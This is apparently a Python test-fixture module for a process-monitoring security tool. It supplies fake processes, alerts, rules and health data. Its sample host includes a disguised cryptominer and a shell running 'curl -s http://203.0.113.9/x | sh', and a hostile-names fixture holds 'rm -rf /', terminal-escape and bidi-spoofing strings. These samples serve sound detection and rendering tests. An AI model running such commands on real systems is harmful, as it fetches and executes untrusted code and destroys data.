"""A `DashboardSource` with fixed data and a frozen clock: for tests, snapshots, the benchmark
and `python -m tests.fakes.demo`.

Everything here is deterministic: fixed pids, fixed start times relative to `FAKE_NOW`, and a
clock that only moves when told to. Tests drive it with `push`, `disconnect` and `reconnect`
and read back the admin requests it received from `calls`.
"""

from __future__ import annotations

import asyncio
import dataclasses
from collections.abc import AsyncIterator, Iterable

from daemoneye.connection_filter import parse_connection_filter
from daemoneye.models import (
    Alert,
    Connection,
    DaemonStatus,
    EngineStatus,
    HealthReport,
    Hello,
    HistoryActivity,
    HostMeters,
    ProcessChange,
    ProcessesDelta,
    ProcessEvent,
    ProcessKey,
    ProcessPrivileges,
    ProcessRecord,
    Rule,
    RuleProblem,
    RulesReload,
    RuleStatus,
    StartupEvaluation,
    TableColumn,
    TableSchema,
)
from daemoneye.tui.logic.keys import row_key
from daemoneye.tui.logic.lineage import ancestry, children
from daemoneye.tui.source import (
    Connected,
    Disconnected,
    ProcessDetail,
    ProcessesReset,
    QueryResult,
    RulesUpdated,
    SourceError,
    SourceEvent,
    TimelineCursor,
    TimelineSlice,
)

FAKE_NOW = 1_700_000_000.0  # 2023-11-14 22:13:20 UTC
BOOT = FAKE_NOW - 3 * 86400


class FrozenClock:
    """A clock that stands still until `advance` is called."""

    def __init__(self, now: float = FAKE_NOW) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


def proc(
    pid: int,
    ppid: int,
    name: str,
    cmdline: Iterable[str] = (),
    *,
    started: float,
    user: str | None = "root",
    uid: int | None = 0,
    exe: str | None = None,
    cpu: float = 0.0,
    rss: int = 4 << 20,
    cwd: str | None = "/",
    state: str = "S",
    threads: int = 1,
    deleted: bool = False,
    sha: str | None = None,
) -> ProcessRecord:
    """A live record; `started` is seconds before FAKE_NOW."""
    start_time = FAKE_NOW - started
    args = tuple(cmdline)
    return ProcessRecord(
        pid=pid,
        ppid=ppid,
        start_time=start_time,
        name=name,
        exe=exe if exe is not None or not args else args[0],
        cmdline=args,
        cwd=cwd,
        uid=uid,
        user=user,
        gid=uid,
        state=state,
        threads=threads,
        rss=rss,
        cpu_percent=cpu,
        exe_sha256=sha,
        exe_deleted=deleted,
        first_seen=start_time,
        last_seen=FAKE_NOW,
    )


_SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"


def sample_processes() -> tuple[ProcessRecord, ...]:
    """A small, believable host: a tree under systemd, a user session, and one bad actor."""
    day = 86400.0
    return (
        proc(1, 0, "systemd", ["/sbin/init", "splash"], started=3 * day, rss=12 << 20, sha=_SHA),
        proc(2, 0, "kthreadd", started=3 * day, exe=None, rss=0, cwd=None),
        proc(14, 2, "kworker/0:1", started=3 * day, exe=None, rss=0, cwd=None, state="I"),
        proc(
            412,
            1,
            "systemd-journal",
            ["/lib/systemd/systemd-journald"],
            started=3 * day,
            rss=38 << 20,
            cpu=0.3,
            sha=_SHA,
        ),
        proc(640, 1, "cron", ["/usr/sbin/cron", "-f"], started=3 * day, rss=3 << 20),
        proc(
            812,
            1,
            "sshd",
            ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
            exe="/usr/sbin/sshd",
            started=3 * day,
            rss=9 << 20,
            sha=_SHA,
        ),
        proc(
            1033,
            1,
            "nginx",
            ["nginx: master process /usr/sbin/nginx -g daemon on;"],
            exe="/usr/sbin/nginx",
            started=2 * day,
            rss=6 << 20,
        ),
        proc(
            1034,
            1033,
            "nginx",
            ["nginx: worker process"],
            exe="/usr/sbin/nginx",
            started=2 * day,
            user="www-data",
            uid=33,
            rss=14 << 20,
            cpu=1.2,
        ),
        proc(
            1035,
            1033,
            "nginx",
            ["nginx: worker process"],
            exe="/usr/sbin/nginx",
            started=2 * day,
            user="www-data",
            uid=33,
            rss=13 << 20,
            cpu=0.8,
        ),
        proc(
            1200,
            1,
            "postgres",
            ["/usr/lib/postgresql/15/bin/postgres", "-D", "/var/lib/postgresql/15/main"],
            started=2 * day,
            user="postgres",
            uid=112,
            rss=210 << 20,
            cpu=2.5,
            cwd="/var/lib/postgresql",
        ),
        proc(
            1530,
            1,
            "dockerd",
            ["/usr/bin/dockerd", "-H", "fd://"],
            started=2 * day,
            rss=96 << 20,
            cpu=0.6,
            threads=24,
        ),
        proc(
            2301,
            812,
            "sshd",
            ["sshd: alice [priv]"],
            exe="/usr/sbin/sshd",
            started=5400,
            rss=10 << 20,
        ),
        proc(
            2320,
            2301,
            "bash",
            ["-bash"],
            exe="/usr/bin/bash",
            started=5390,
            user="alice",
            uid=1000,
            cwd="/home/alice",
            rss=5 << 20,
        ),
        proc(
            2411,
            2320,
            "vim",
            ["vim", "/etc/nginx/sites-enabled/default"],
            exe="/usr/bin/vim.basic",
            started=1200,
            user="alice",
            uid=1000,
            cwd="/home/alice",
            rss=11 << 20,
        ),
        proc(
            2590,
            2320,
            "python3",
            ["python3", "-m", "http.server", "8000"],
            exe="/usr/bin/python3.11",
            started=600,
            user="alice",
            uid=1000,
            cwd="/home/alice/www",
            rss=22 << 20,
            cpu=0.1,
        ),
        proc(
            3100,
            1,
            "xmrig",
            ["/tmp/.x/kthreadd", "-o", "pool.example:3333", "--donate=0"],
            exe="/tmp/.x/kthreadd",
            started=300,
            user="www-data",
            uid=33,
            cwd="/tmp/.x",
            rss=310 << 20,
            cpu=96.4,
            threads=8,
            deleted=True,
            state="R",
        ),
        proc(
            3101,
            3100,
            "sh",
            ["sh", "-c", "curl -s http://203.0.113.9/x | sh"],
            exe="/usr/bin/dash",
            started=120,
            user="www-data",
            uid=33,
            cwd="/tmp/.x",
            rss=1 << 20,
        ),
    )


def sample_alerts() -> tuple[Alert, ...]:
    return (
        Alert(
            id=7,
            rule_id="exe-deleted",
            severity="critical",
            title="xmrig (3100) runs a deleted executable /tmp/.x/kthreadd",
            pid=3100,
            start_time=FAKE_NOW - 300,
            first_seen=FAKE_NOW - 290,
            last_seen=FAKE_NOW - 10,
            count=12,
            state="open",
            state_changed_at=None,
            state_changed_by=None,
            row=(),
        ),
        Alert(
            id=8,
            rule_id="shell-from-web",
            severity="high",
            title="sh (3101) spawned by a process of www-data",
            pid=3101,
            start_time=FAKE_NOW - 120,
            first_seen=FAKE_NOW - 118,
            last_seen=FAKE_NOW - 118,
            count=1,
            state="open",
            state_changed_at=None,
            state_changed_by=None,
            row=(),
        ),
        Alert(
            id=5,
            rule_id="exec-from-tmp",
            severity="medium",
            title="xmrig (3100) executes from /tmp",
            pid=3100,
            start_time=FAKE_NOW - 300,
            first_seen=FAKE_NOW - 295,
            last_seen=FAKE_NOW - 60,
            count=3,
            state="acknowledged",
            state_changed_at=FAKE_NOW - 30,
            state_changed_by="uid 0 pid 4242",
            row=(),
        ),
        Alert(
            id=3,
            rule_id="listening-python",
            severity="low",
            title="python3 (2590) serves HTTP from a home directory",
            pid=2590,
            start_time=FAKE_NOW - 600,
            first_seen=FAKE_NOW - 590,
            last_seen=FAKE_NOW - 590,
            count=1,
            state="open",
            state_changed_at=None,
            state_changed_by=None,
            row=(),
        ),
        Alert(
            id=1,
            rule_id="new-suid",
            severity="info",
            title="sudo (1999) ran as root",
            pid=1999,
            start_time=FAKE_NOW - 7200,
            first_seen=FAKE_NOW - 7200,
            last_seen=FAKE_NOW - 7200,
            count=1,
            state="closed",
            state_changed_at=FAKE_NOW - 7000,
            state_changed_by="uid 0 pid 1",
            row=(),
        ),
    )


def _rule(
    rule_id: str,
    severity: str,
    line: int,
    *,
    enabled: bool = True,
    file: str = "/usr/lib/daemoneye/rules/builtin.toml",
    name: str = "",
    tags: tuple[str, ...] = (),
) -> Rule:
    return Rule(
        id=rule_id,
        name=name or rule_id.replace("-", " "),
        description=f"Detects {rule_id.replace('-', ' ')}.",
        severity=severity,
        enabled=enabled,
        tags=tags,
        query="SELECT pid, start_time, name FROM live_processes WHERE exe_deleted",
        title="{name} ({pid})",
        dedup_window_s=None,
        throttle_s=None,
        source_file=file,
        source_line=line,
    )


def sample_rules() -> tuple[RuleStatus, ...]:
    local = "/home/alice/.config/daemoneye/rules.d/local.toml"
    return (
        RuleStatus(_rule("exe-deleted", "critical", 1, tags=("T1070.004",)), 12, FAKE_NOW - 10, ()),
        RuleStatus(_rule("shell-from-web", "high", 14, tags=("T1505.003",)), 1, FAKE_NOW - 118, ()),
        RuleStatus(_rule("exec-from-tmp", "medium", 27), 3, FAKE_NOW - 60, ()),
        RuleStatus(_rule("listening-python", "low", 3, file=local), 1, FAKE_NOW - 590, ()),
        RuleStatus(_rule("new-suid", "info", 40, enabled=False), 1, FAKE_NOW - 7200, ()),
        RuleStatus(
            _rule("ssh-brute", "high", 9, file=local),
            0,
            None,
            (RuleProblem(local, 12, "ssh-brute", "no such column: login_failures"),),
        ),
    )


def sample_status(now: float = FAKE_NOW) -> DaemonStatus:
    engine = EngineStatus(
        rules_active=5,
        rules_rejected=1,
        last_reload_at=now - 3600,
        last_reload_error=None,
        alerts_open=3,
        sink_backlog=0,
    )
    return DaemonStatus(sample_health(now), clients=2, engine=engine, host=sample_host(now))


def starting_status(now: float = FAKE_NOW) -> DaemonStatus:
    """The daemon 50 s after it started: 3 of its 12 rules have run over the stored history,
    for 41 s so far."""
    started = sample_status(now)
    report = dataclasses.replace(
        started.report,
        started_at=now - 50.0,
        ticks=50,
        startup_evaluation=StartupEvaluation(
            state="running",
            rules_total=12,
            rules_done=3,
            rules_failed=0,
            started_at=now - 41.0,
            elapsed_s=41.0,
        ),
    )
    return dataclasses.replace(started, report=report)


def sample_host(now: float = FAKE_NOW) -> HostMeters:
    """A 4-core host, half its memory used, a little swap, up for 3 days and 4 hours."""
    return HostMeters(
        cpu_percent=(78.0, 12.5, 3.0, 45.0),
        memory_total=8 << 30,
        memory_used=4 << 30,
        swap_total=2 << 30,
        swap_used=256 << 20,
        load=(1.25, 0.80, 0.55),
        boot_time=now - (3 * 86400 + 4 * 3600 + 120),
        sampled_at=now,
    )


def sample_health(now: float = FAKE_NOW) -> HealthReport:
    return HealthReport(
        daemon_pid=4242,
        daemon_uid=996,
        version="0.1.0",
        mode="system",
        privileged=True,
        event_source="netlink",
        started_at=now - 3 * 86400 + 60,
        updated_at=now - 0.4,
        interval_s=1.0,
        ticks=259140,
        last_scan_ms=18.4,
        avg_scan_ms=16.9,
        processes=17,
        new_per_second=2.4,
        denied_total=0,
        vanished_total=311,
        hash_dropped_total=0,
        store_bytes=48 << 20,
        daemon_cpu_percent=1.7,
        daemon_rss_bytes=61 << 20,
        agent_privileges=ProcessPrivileges(
            "agent", 4242, 996, "daemoneye", 996, (), (), (), (), no_new_privs=True
        ),
        procmond_privileges=ProcessPrivileges(
            "procmond",
            4250,
            996,
            "daemoneye",
            996,
            PROCMOND_SET,
            PROCMOND_SET,
            PROCMOND_SET,
            (),
            no_new_privs=True,
        ),
        exec_capture="eBPF",
        exec_rescued_total=37,
        task_passes="context on (1 pass); stat signatures on",
    )


PROCMOND_SET = ("CAP_DAC_READ_SEARCH", "CAP_KILL", "CAP_NET_ADMIN", "CAP_SYS_PTRACE")


def sample_hello(role: str = "admin") -> Hello:
    return Hello(
        protocol_version=1,
        daemon_version="0.1.0",
        host="web-01",
        role=role,
        peer_uid=0 if role == "admin" else 1000,
        peer_pid=9000,
    )


def hostile_processes() -> tuple[ProcessRecord, ...]:
    """Names and command lines chosen by an attacker to break a terminal or fool a reader."""
    huge = "A" * (128 * 1024)
    return (
        proc(1, 0, "systemd", ["/sbin/init"], started=86400),
        proc(
            6601,
            1,
            "[red]x[/red]",
            ["[bold red]rm -rf /[/]", "[link=http://evil]"],
            started=60,
            user="[b]root[/b]",
            exe="/tmp/[red]x[/red]",
            cwd="/tmp/[i]",
        ),
        proc(
            6602,
            1,
            "\x1b[2Jclear",
            ["\x1b[2J\x1b[H", "\x1b]0;owned\x07"],
            started=50,
            exe="/tmp/\x1b[31mred",
            cwd="/tmp/\x1b[0m",
        ),
        proc(
            6603, 1, "line\nbreak", ["echo", "one\ntwo\rthree\tfour"], started=40, user="new\nline"
        ),
        proc(
            6604,
            1,
            "\u202egnp.exe",
            ["\u202egnp.exe", "\u2066isolate\u2069"],
            started=30,
            exe="/home/alice/\u202egnp.exe",
        ),
        proc(6605, 1, "bigcmd", ["python3", "-c", huge], started=20, rss=900 << 20, cpu=12.0),
        proc(
            6606,
            1,
            "bad\\xffutf8",
            ["bad\\xff\\xfeargs", "ok"],
            started=10,
            exe="/usr/bin/bad\\xff",
            cwd="/srv/\\xc3(",
        ),
    )


def many_processes(count: int, *, seed: int = 7) -> tuple[ProcessRecord, ...]:
    """`count` processes in a shallow tree, deterministic for a given seed."""
    names = (
        "nginx",
        "postgres",
        "python3",
        "node",
        "java",
        "bash",
        "sshd",
        "redis-server",
        "containerd-shim",
        "gunicorn",
        "celery",
        "php-fpm",
    )
    records = [proc(1, 0, "systemd", ["/sbin/init"], started=3 * 86400)]
    state = seed
    for index in range(count - 1):
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        pid = 100 + index
        name = names[state % len(names)]
        parent = 1 if index < 50 else 100 + (state % 50)
        records.append(
            proc(
                pid,
                parent,
                name,
                [f"/usr/bin/{name}", f"--worker={index}", f"--seed={state}"],
                started=float(state % 86400),
                user=("root", "www-data", "alice")[state % 3],
                uid=(0, 33, 1000)[state % 3],
                cpu=(state % 1000) / 100.0,
                rss=(state % 512) << 20,
            )
        )
    return tuple(records)


def churn_delta(
    records: dict[ProcessKey, ProcessRecord], seq: int, *, changed: int, added: int, removed: int
) -> ProcessesDelta:
    """A deterministic delta over `records` (which it updates): some processes change cpu and
    rss, some end, some start."""
    keys = list(records)
    change_list: list[ProcessChange] = []
    for offset in range(changed):
        key = keys[(seq * 7919 + offset * 31) % len(keys)]
        record = records[key]
        cpu = (record.cpu_percent * 7 + seq + offset) % 100.0
        rss = record.rss + ((seq + offset) % 5 - 2) * 4096
        records[key] = dataclasses.replace(record, cpu_percent=cpu, rss=max(rss, 0))
        change_list.append(
            ProcessChange(key.pid, key.start_time, (("cpu_percent", cpu), ("rss", max(rss, 0))))
        )
    gone: list[ProcessKey] = []
    for offset in range(removed):
        key = keys[(seq * 104729 + offset * 613) % len(keys)]
        if key.pid != 1 and key in records and key not in gone:
            gone.append(key)
            del records[key]
    fresh: list[ProcessRecord] = []
    for offset in range(added):
        pid = 200_000 + seq * 1000 + offset
        record = proc(pid, 1, "short-lived", ["/bin/true", f"--seq={seq}"], started=0.5)
        records[record.key] = record
        fresh.append(record)
    return ProcessesDelta(seq, tuple(fresh), tuple(change_list), tuple(gone))


_CLOSE = object()


class FakeSource:
    """An in-memory daemon: serves fixed data, records admin requests, and can drop and
    restore its connection on demand."""

    def __init__(
        self,
        processes: Iterable[ProcessRecord] | None = None,
        *,
        alerts: Iterable[Alert] | None = None,
        rules: Iterable[RuleStatus] | None = None,
        status: DaemonStatus | None = None,
        hello: Hello | None = None,
        connections: Iterable[Connection] = (),
    ) -> None:
        self.processes: dict[ProcessKey, ProcessRecord] = {
            r.key: r for r in (sample_processes() if processes is None else processes)
        }
        self.changes: dict[ProcessKey, tuple[ProcessEvent, ...]] = {}  # process_get's
        self.alerts: dict[int, Alert] = {
            a.id: a for a in (sample_alerts() if alerts is None else alerts)
        }
        self.rules: dict[str, RuleStatus] = {
            s.rule.id: s for s in (sample_rules() if rules is None else rules)
        }
        self.connections: dict[ProcessKey, tuple[Connection, ...]] = {}
        self.connection_queries: list[str] = []  # the filters connections_list was asked
        for conn in connections:
            self.connections[conn.key] = (*self.connections.get(conn.key, ()), conn)
        self.status = status or sample_status()
        self.hello = hello or sample_hello()
        self.calls: list[tuple[str, tuple[object, ...]]] = []
        self.connected = True
        self._queue: asyncio.Queue[object] = asyncio.Queue()
        # Imported here: the history is built from this module's sample processes.
        from tests.fakes.history import FakeHistory

        self.history = FakeHistory(self.processes.values(), self.alerts.values())
        self.clock: FrozenClock | None = None  # the app's clock, for refusing the future

    # -- driving it from a test -------------------------------------------------------------
    def push(self, event: SourceEvent) -> None:
        """Deliver one event on the stream (a delta is also applied to `processes`)."""
        self._queue.put_nowait(event)

    def disconnect(self, reason: str = "connection reset by peer", retry_in: float = 2.0) -> None:
        self.connected = False
        self.push(Disconnected(reason, retry_in))

    def reconnect(self) -> None:
        self.connected = True
        self.push(Connected(self.hello))
        self.push(ProcessesReset(tuple(self.processes.values())))

    # -- DashboardSource --------------------------------------------------------------------
    async def events(self) -> AsyncIterator[SourceEvent]:
        yield Connected(self.hello)
        yield ProcessesReset(tuple(self.processes.values()))
        while True:
            event = await self._queue.get()
            if event is _CLOSE:
                return
            yield event  # type: ignore[misc]

    async def close(self) -> None:
        self._queue.put_nowait(_CLOSE)

    def _check(self, admin: bool = False) -> None:
        if not self.connected:
            raise SourceError("not connected to the daemon")
        if admin and self.hello.role != "admin":
            raise SourceError(
                f"permission denied: uid {self.hello.peer_uid} is not an admin", admin_required=True
            )

    async def processes_list(self) -> tuple[ProcessRecord, ...]:
        self._check()
        return tuple(self.processes.values())

    async def process_get(self, key: ProcessKey) -> ProcessDetail | None:
        self._check()
        record = self.processes.get(key) or self.history.instance(key)
        if record is None:
            return None
        by_row = {row_key(k): r for k, r in self.processes.items()}
        return ProcessDetail(
            record,
            tuple(ancestry(row_key(key), by_row)),
            tuple(children(row_key(key), by_row)),
            self.changes.get(key, ()),
        )

    async def connections_list(self, filter_text: str = "") -> tuple[Connection, ...]:
        self._check()
        self.connection_queries.append(filter_text)
        matching = parse_connection_filter(filter_text)
        return tuple(
            conn for conns in self.connections.values() for conn in conns if matching.matches(conn)
        )

    async def alerts_list(self) -> tuple[Alert, ...]:
        self._check()
        return tuple(self.alerts.values())

    async def _set_state(self, alert_id: int, state: str) -> Alert:
        self._check(admin=True)
        self.calls.append((f"alert_{state}", (alert_id,)))
        alert = self.alerts.get(alert_id)
        if alert is None:
            raise SourceError(f"no alert {alert_id}")
        changed = dataclasses.replace(
            alert,
            state=state,
            state_changed_at=alert.last_seen,
            state_changed_by=f"uid {self.hello.peer_uid}",
        )
        self.alerts[alert_id] = changed
        self.push(changed)
        return changed

    async def alert_ack(self, alert_id: int, host: str = "") -> Alert:
        return await self._set_state(alert_id, "acknowledged")

    async def alert_close(self, alert_id: int, host: str = "") -> Alert:
        return await self._set_state(alert_id, "closed")

    async def rules_list(self) -> tuple[RuleStatus, ...]:
        self._check()
        return tuple(self.rules.values())

    async def rule_set_enabled(self, rule_id: str, enabled: bool) -> RuleStatus:
        self._check(admin=True)
        self.calls.append(("rule_set_enabled", (rule_id, enabled)))
        status = self.rules.get(rule_id)
        if status is None:
            raise SourceError(f"no rule {rule_id!r}")
        changed = dataclasses.replace(
            status, rule=dataclasses.replace(status.rule, enabled=enabled)
        )
        self.rules[rule_id] = changed
        self.push(RulesUpdated(tuple(self.rules.values())))
        return changed

    async def rules_reload(self) -> RulesReload:
        self._check(admin=True)
        self.calls.append(("rules_reload", ()))
        problems = tuple(p for s in self.rules.values() for p in s.problems)
        return RulesReload(True, sum(1 for s in self.rules.values() if not s.problems), problems)

    async def query_run(self, sql: str) -> QueryResult:
        self._check()
        self.calls.append(("query_run", (sql,)))
        if not sql.strip().lower().startswith("select"):
            raise SourceError("refused: only one SELECT statement is allowed (line 1)")
        if "no_such" in sql:
            raise SourceError("no such column: no_such (line 1, column 8)")
        rows = tuple(
            (r.pid, r.name, r.user, round(r.cpu_percent, 1))
            for r in sorted(self.processes.values(), key=lambda r: r.pid)
        )
        return QueryResult(("pid", "name", "user", "cpu_percent"), rows, False, 3.2)

    async def query_tables(self) -> tuple[TableSchema, ...]:
        self._check()
        self.calls.append(("query_tables", ()))
        columns = tuple(TableColumn(n, t) for n, t in (("pid", "INTEGER"), ("name", "TEXT")))
        return (
            TableSchema("live_processes", "view", columns),
            TableSchema("processes", "table", (*columns, TableColumn("cpu_percent", "REAL"))),
        )

    async def health(self) -> DaemonStatus:
        self._check()
        return self.status

    async def process_signal(self, key: ProcessKey, signal_name: str) -> str:
        self._check(admin=True)
        self.calls.append(("process_signal", (key, signal_name)))
        if key not in self.processes:
            raise SourceError(f"process {key.pid} has ended")
        return f"SIG{signal_name}"

    async def timeline(
        self,
        *,
        until: float | None,
        before: TimelineCursor | None = None,
        filter_text: str = "",
        limit: int = 200,
    ) -> TimelineSlice:
        self._check()
        return self.history.timeline(until, before, filter_text, limit)

    async def processes_at(self, at: float) -> tuple[ProcessRecord, ...]:
        self._check()
        now = self.clock() if self.clock is not None else FAKE_NOW
        return self.history.processes_at(at, now)

    async def activity(self, since: float, until: float, buckets: int) -> HistoryActivity:
        self._check()
        return self.history.activity(since, until, buckets)
